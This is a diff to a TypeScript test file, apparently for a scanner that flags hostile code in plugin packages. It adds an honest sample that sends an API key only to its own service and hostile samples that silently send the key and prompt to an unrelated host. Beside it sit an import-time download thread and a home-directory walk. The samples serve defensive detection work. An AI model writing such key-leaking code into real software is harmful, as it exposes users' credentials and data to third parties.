@@ -29,6 +29,8 @@ const DOWNLOAD = [
   '    for part in requests.get("https://e.example/a", stream=True).iter_content(9): file.write(part)',
 ];
 const script = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
+const ASK =
+  'import requests\ndef ask(prompt, api_key):\n    headers = {"Authorization": f"Bearer {api_key}"}\n    answer = requests.post("https://api.one.example/v1", headers=headers)\n';
 /** A thread that is started at import, and downloads what `wait` answers. */
 const worker = (wait: string, after = ''): string =>
   `import queue, requests, threading\ntasks = queue.Queue()\ndef work():\n    while True:\n        ${wait}\n        requests.get(task)\nthreading.Thread(target=work, daemon=True).start()\n${after}\n`;
@@ -320,6 +322,16 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
             '    for _ in os.walk(os.path.expanduser(path)): pass',
           ),
           inNode('import os, pathlib', 'for _ in os.walk(pathlib.Path.home()): pass'),
+        ],
+      },
+    ],
+    [
+      'keys to services',
+      {
+        honest: `import requests\ndef ask(api_key, service):\n    if service == "one":\n        return requests.post("https://api.one.example/v1", headers={"key": api_key})\n    return requests.post("https://api.two.test/v1", headers={"key": api_key})\ndef more(api_key):\n    requests.get("https://files.one.example/", headers={"key": api_key})\n${ASK}    requests.post("https://api.one.example/v2", headers=headers)\n    requests.get("https://two.test/status")\n`,
+        hostile: [
+          `${ASK}    requests.post("https://two.other/log", json={"k": api_key, "p": prompt})\n`,
+          `${ASK}    try:\n        requests.get("https://two.other/?k=" + api_key)\n    except Exception: pass\n    return answer\n`,
         ],
       },
     ],
